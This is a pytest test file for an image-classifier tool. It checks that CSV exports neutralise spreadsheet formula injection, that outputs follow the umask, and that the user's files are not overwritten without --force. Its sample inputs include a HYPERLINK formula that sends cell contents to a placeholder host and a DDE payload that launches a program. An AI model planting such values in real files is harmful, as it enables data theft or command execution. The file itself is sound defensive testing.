"""What imgcls writes for the user: CSV cells a spreadsheet would run as formulas are neutralised (file
names and the class names of a shared model are anyone's text), JSON stays exact, and exports,
tables and sorted copies get the permissions the user's umask asks for (not mkstemp's 0600)."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from imgcls_gui import cli
from imgcls_gui.engine.checkpoint import load_checkpoint, save_checkpoint
from imgcls_gui.engine.deploy.predict import Prediction
from imgcls_gui.engine.deploy.predict_io import FORMULA_STARTS, write_predictions
from imgcls_gui.engine.training.trainer import Trainer

from ..engine.tiny_data import make_class_folders
from .corpus import noise
from .helpers import tiny_config

# one hostile text per character (no '/': they are file names too) a spreadsheet treats as the start of a formula
FORMULAS = ('=HYPERLINK("http:x.test?"&A1,"click")', "+1+cmd|' -C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1")
assert {text[0] for text in FORMULAS} == set(FORMULA_STARTS)


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("outputs")
    data = make_class_folders(root / "data", per_class=6, size=32)
    return Trainer(tiny_config(data), root / "run").fit().run_dir


def _shared_checkpoint(run_dir: Path, folder: Path, classes: tuple[str, str]) -> Path:
    """The run's model under class names chosen by whoever shared it."""
    state = load_checkpoint(run_dir)
    state["classes"] = list(classes)
    folder.mkdir(parents=True, exist_ok=True)
    save_checkpoint(state, folder / "shared.pt")
    return folder / "shared.pt"


def _photos_named(folder: Path, names) -> list[str]:
    folder.mkdir(parents=True, exist_ok=True)
    for i, name in enumerate(names):
        noise((40, 40), seed=i).save(folder / f"{name}.png", format="PNG")
    return [f"{name}.png" for name in names]


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_every_text_column_of_the_csv_is_neutralised_and_json_stays_exact(tmp_path, text):
    row = Prediction(Path(text + ".png"), text, 0.5, ((text, 0.5), ("b", 0.5)), (text,), error=text)
    write_predictions([row], tmp_path / "p.csv", top_k=2)
    write_predictions([row], tmp_path / "p.json")
    cells = list(csv.reader((tmp_path / "p.csv").open(newline="", encoding="utf-8")))[1]
    assert cells == ["'" + text + ".png", "'" + text, "0.500000", "'" + text, "0.500000", "b", "0.500000", "'" + text]
    assert json.loads((tmp_path / "p.json").read_text(encoding="utf-8"))[0]["label"] == text  # exact


def test_harmless_text_and_numbers_are_left_alone(tmp_path):
    row = Prediction(Path("/photos/a-b=c.png"), "cat", 0.25, (("cat", 0.25),), ("cat",))
    write_predictions([row], tmp_path / "p.csv", top_k=1)
    assert list(csv.reader((tmp_path / "p.csv").open()))[1] == ["/photos/a-b=c.png", "cat", "0.250000", "cat", "0.250000", ""]


@pytest.mark.parametrize("classes", [FORMULAS[0:2], FORMULAS[2:4], FORMULAS[4:6]], ids=["equals-plus", "minus-at",
                                                                                            "tab-cr"])
def test_the_cli_and_the_bundle_neutralise_file_and_class_names(run_dir, tmp_path, monkeypatch, classes):
    shared = _shared_checkpoint(run_dir, tmp_path / "model", classes)
    monkeypatch.chdir(tmp_path)
    names = _photos_named(tmp_path, [f"{c[0]}photo{i}" for i, c in enumerate(FORMULAS) if c[0] not in "\r"])
    assert cli.main(["predict", "--out", "p.csv", "--quiet", str(shared), "--", *names]) == 0  # "-x.png" is a name
    assert cli.main(["predict", "--out", "p.json", "--quiet", str(shared), "--", *names]) == 0
    assert cli.main(["export", str(shared), "--bundle", "bundle"]) == 0
    subprocess.run([sys.executable, "bundle/predict.py", "--out", "b.csv", "--", *names], check=True, timeout=300,
                   capture_output=True)
    exact = json.loads(Path("p.json").read_text(encoding="utf-8"))
    assert {row["path"] for row in exact} == set(names) and {row["label"] for row in exact} <= set(classes)
    for table in ("p.csv", "b.csv"):
        rows = list(csv.DictReader(Path(table).open(newline="", encoding="utf-8")))
        assert len(rows) == len(names)
        for row in rows:
            for column in ("path", "label", "top1_label", "top2_label"):
                assert not row[column].startswith(FORMULA_STARTS), (table, column, row[column])
                assert row[column][1:] in names + list(classes), (table, column, row[column])


@pytest.fixture(params=[0o022, 0o077], ids=["umask-022", "umask-077"])
def umask(request):
    old = os.umask(request.param)
    yield request.param
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_exports_tables_and_sorted_copies_follow_the_umask(run_dir, tmp_path, umask):
    photos = tmp_path / "photos"
    photos.mkdir()
    for i in range(2):
        noise((40, 40), seed=i).save(photos / f"p{i}.png")
        os.chmod(photos / f"p{i}.png", 0o644)
    out = tmp_path / "out"
    out.mkdir()
    assert cli.main(["export", str(run_dir), "--out", str(out / "m.onnx"), "--bundle", str(out / "bundle")]) == 0
    assert cli.main(["predict", str(out / "m.onnx"), str(photos), "--out", str(out / "p.csv"),
                     "--sort-into", str(out / "sorted"), "--quiet"]) == 0
    written = [out / "m.onnx", out / "p.csv", *(out / "bundle").iterdir(), *(out / "sorted").rglob("*.png")]
    assert len(written) == 2 + 4 + 2
    assert {p.name: oct(_mode(p)) for p in written} == {p.name: oct(0o666 & ~umask if p.suffix != ".png" else 0o644 & ~umask)
                                                        for p in written}


def test_a_replaced_file_keeps_its_own_mode(run_dir, tmp_path, umask):
    photos = tmp_path / "photos"
    photos.mkdir()
    noise((40, 40)).save(photos / "p.png")
    table = tmp_path / "p.csv"
    table.write_text("old\n")
    os.chmod(table, 0o640)
    assert cli.main(["predict", str(run_dir), str(photos), "--out", str(table), "--quiet"]) == 0
    assert table.read_text().startswith("path,") and _mode(table) == 0o640


# -- never replace the user's files silently ---------------------------------------------------------------


def _one_line(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert err.startswith("imgcls: error: ") and "\n" not in err, err
    return err


@pytest.mark.parametrize("theirs", ["README.md", "predict.py", "labels.json", "model.onnx"])
def test_a_bundle_never_replaces_the_users_own_files_without_force(run_dir, tmp_path, capsys, theirs):
    bundle = tmp_path / "my-project"
    bundle.mkdir()
    (bundle / theirs).write_bytes(b"my own notes\n")
    assert cli.main(["export", str(run_dir), "--bundle", str(bundle)]) == 2
    err = _one_line(capsys)
    assert f"{bundle / theirs} already exists and would be replaced" in err and "--force" in err
    assert sorted(p.name for p in bundle.iterdir()) == [theirs] and (bundle / theirs).read_bytes() == b"my own notes\n"
    if theirs == "model.onnx":  # once is enough (each export costs seconds): --force replaces the user's file
        assert cli.main(["export", str(run_dir), "--bundle", str(bundle), "--force"]) == 0
        assert (bundle / theirs).read_bytes() != b"my own notes\n" and len(list(bundle.iterdir())) == 4


@pytest.mark.parametrize("target", ["best.pt", "last.pt", "the-checkpoint-itself"])
@pytest.mark.parametrize("fmt", ["torchscript", "onnx"])
def test_an_export_never_replaces_the_checkpoint_it_reads(run_dir, tmp_path, capsys, target, fmt):
    import shutil

    run = Path(shutil.copytree(run_dir, tmp_path / "run"))
    source, out = (run / "best.pt", run / "best.pt") if target == "the-checkpoint-itself" else (run, run / target)
    if fmt == "onnx":  # an ONNX --out must end in .onnx: a link with that name to the checkpoint
        (run / "best.onnx").symlink_to(out)
        out = run / "best.onnx"
    before = {p.name: p.read_bytes() for p in run.iterdir() if p.is_file()}
    assert cli.main(["export", str(source), "--format", fmt, "--out", str(out)]) == 2
    err = _one_line(capsys)
    assert f"{out} is the checkpoint this export reads" in err or f"{out} already exists" in err, err
    assert {p.name: p.read_bytes() for p in run.iterdir() if p.is_file()} == before


def test_an_export_over_another_file_needs_force(run_dir, tmp_path, capsys):
    out = tmp_path / "model.onnx"
    out.write_bytes(b"an older model I want to keep")
    assert cli.main(["export", str(run_dir), "--out", str(out)]) == 2
    assert f"{out} already exists and would be replaced; choose another --out, or add --force" in _one_line(capsys)
    assert out.read_bytes() == b"an older model I want to keep"
    assert cli.main(["export", str(run_dir), "--out", str(out), "--force"]) == 0
    assert out.read_bytes() != b"an older model I want to keep"


@pytest.mark.parametrize("theirs", ["notes.txt", ".hidden", "subfolder/"])
def test_training_into_a_folder_holding_other_files_needs_force(run_dir, tmp_path, capsys, theirs):
    from .helpers import TINY_TRAIN_FLAGS

    out = tmp_path / "holiday-photos"
    out.mkdir()
    (out / theirs.rstrip("/")).mkdir() if theirs.endswith("/") else (out / theirs).write_text("mine")
    data = load_checkpoint(run_dir)["config"]["data"]["path"]
    assert cli.main(["train", data, "--out", str(out), "--epochs", "1", *TINY_TRAIN_FLAGS]) == 2
    err = _one_line(capsys)
    assert f"{out} already holds other files ({theirs.rstrip('/')})" in err and "--force" in err
    assert [p.name for p in out.iterdir()] == [theirs.rstrip("/")]
    if theirs == "notes.txt":  # once is enough: --force trains there and leaves the user's file alone
        assert cli.main(["train", data, "--out", str(out), "--epochs", "1", "--force", *TINY_TRAIN_FLAGS]) == 0
        assert (out / "notes.txt").read_text() == "mine" and (out / "best.pt").is_file()
